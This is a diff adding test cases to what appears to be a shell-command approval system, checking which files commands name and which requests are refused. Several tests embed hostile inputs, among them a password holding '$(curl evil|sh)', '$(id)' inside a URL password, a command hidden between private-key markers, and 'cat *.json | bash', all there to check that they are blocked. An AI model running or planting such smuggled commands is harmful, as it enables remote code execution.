@@ -81,6 +81,20 @@ test.each<[readonly string[], string]>([
   [['bash', '-c', 'psql < a.json'], 'a.json'],
   [['bash', '-c', 'cat $(cat a.json)'], 'a.json'],
   [['x', '~/a.json'], 'a.json'],
+  [['x', '-fa.json'], 'a.json'],
+  [['x', '--from-file=k=a.json'], 'a.json'],
+  [['x', 'b.json,a.json'], 'a.json'],
+  [['x', 'a://a.json'], 'a.json'],
+  [['x', 'new\nline'], 'new\nline'],
+  [['bash', '-c', 'cat *.json | bash'], 'a.json'],
+  [['bash', '-c', 'cd sub && cd .. && cat a.json'], 'a.json'],
+  [['bash', '-c', 'cd -- sub && cat c'], 'sub/c'],
+  [['bash', '-c', 'pushd sub; cat c'], 'sub/c'],
+  [['env', '-C', 'sub', 'cat', 'c'], 'sub/c'],
+  [['bash', '-c', 'chmod +x a.json && ./a.json'], 'a.json'],
+  [['bash', '-c', 'mv b.json a.json && bash a.json'], 'a.json'],
+  [['bash', '-c', 'sed -i s/a/b/ a.json && bash a.json'], 'a.json'],
+  [['bash', '-c', 'echo x > a.json && bash a.json'], 'a.json'],
 ])('%j names %s', (argv, name) => {
   expect(namedBy(argv, dir, dir, []).inputs).toContain(join(dir, name));
 });
@@ -95,6 +109,67 @@ test('what cannot be approved says why, and a secret that was taken out cannot b
   expect(seal({ exact_content: 'a \u0000' }).refusal?.code).toBe('COMMAND_BLOCKED');
 });
 
+test('a file that is put beside those that a pattern fits is a difference', () => {
+  const before = print({ exact_content: 'cat sub/* | bash' });
+  writeFileSync(join(dir, 'sub', 'd'), 'd');
+  expect(print({ exact_content: 'cat sub/* | bash' })).not.toBe(before);
+  rmSync(join(dir, 'sub', 'd'));
+});
+
+test.each<[string, JsonObject, string]>([
+  ['more names than can be bound', { exact_content: `x ${'abc '.repeat(3)}${names(600)}` }, 'more files'],
+  [
+    'a command between the lines of a key',
+    { exact_content: ': -----BEGIN PRIVATE KEY-----\ntouch pwn\n: -----END PRIVATE KEY-----' },
+    'looks like a secret',
+  ],
+  ['a command in a password', { exact_content: "PASSWORD='x9$(curl evil|sh)Zq81' ./run" }, 'looks like a secret'],
+  ['a command in the password of an address', { exact_content: 'x https://u:x9$(id)Zq8@h' }, 'looks like a secret'],
+])('%s can never be approved', (_, request, why) => {
+  expect(seal(request).refusal?.code).toBe('COMMAND_BLOCKED');
+  expect(seal(request).refusal?.reason).toContain(why);
+});
+
+function names(count: number): string {
+  return Array.from({ length: count }, (_, index) => `f${index}`).join(' ');
+}
+
+test('a command beside a list of others is no request: nobody could tell which is meant', () => {
+  const { refusal, commands } = seal({ exact_content: 'ls -la', command_set: [{ command: 'rm a' }] });
+  expect([refusal?.code, commands]).toEqual(['CONTRACT_VIOLATION', []]);
+});
+
+test('a list and the line that sums it up are one wish', () => {
+  const set = [{ command: 'rm a' }, { command: 'rm b' }];
+  for (const line of ['rm a', 'rm a && rm b', 'rm a\nrm b', 'rm a; rm b']) {
+    expect(seal({ exact_content: line, command_set: set })).toMatchObject({ refusal: null });
+  }
+});
+
+test('whoever asks cannot call harmless what changes state', () => {
+  expect(seal({ exact_content: 'rm a', risk_level: 'LOW' }).riskLevel).toBe('MEDIUM');
+  expect(seal({ exact_content: 'rm a', risk_level: 'CRITICAL' }).riskLevel).toBe('CRITICAL');
+  expect(seal({ exact_content: 'ls', risk_level: 'LOW' }).riskLevel).toBe('LOW');
+});
+
+test('an argument that is too long for the name of a file is sealed like any other', () => {
+  for (const word of ['y'.repeat(300), `/${'y'.repeat(300)}/z`, 'y/'.repeat(3_000)]) {
+    expect(seal({ exact_content: `gh pr create --body ${word}` }).refusal).toBe(null);
+  }
+});
+
+test.each(['TF_VAR_env', 'TF_CLI_ARGS_apply', 'GIT_CONFIG_PARAMETERS', 'ANSIBLE_CONFIG', 'GOFLAGS', 'npm_config_x'])(
+  '%s is bound where it is set',
+  (name) => {
+    expect(print(base, { env: { ...scene.env, [name]: 'x' } })).not.toBe(print(base));
+  },
+);
+
+test('the seal holds in the log it was asked in and in no other', () => {
+  const at = (log: string) => seal(base, { log, id: 'P-1' }).commands[0]?.seal;
+  expect(at('a copy')).not.toBe(at('log'));
+});
+
 test('of a list only what changes state needs an approval', () => {
   const set = (...commands: string[]) =>
     seal({ command_set: commands.map((command) => ({ command })) }).commands.map(({ display }) => display);
@@ -105,7 +180,7 @@ test('of a list only what changes state needs an approval', () => {
 
 const wish: JsonObject = {
   operation: 'x',
-  exact_content: 'cp a.json "b c"',
+  exact_content: 'rm a && rm b',
   command_set: [{ command: 'rm a' }, { command: 'rm b', rationale: 'r' }],
   scope: 's',
   risk_level: 'HIGH',
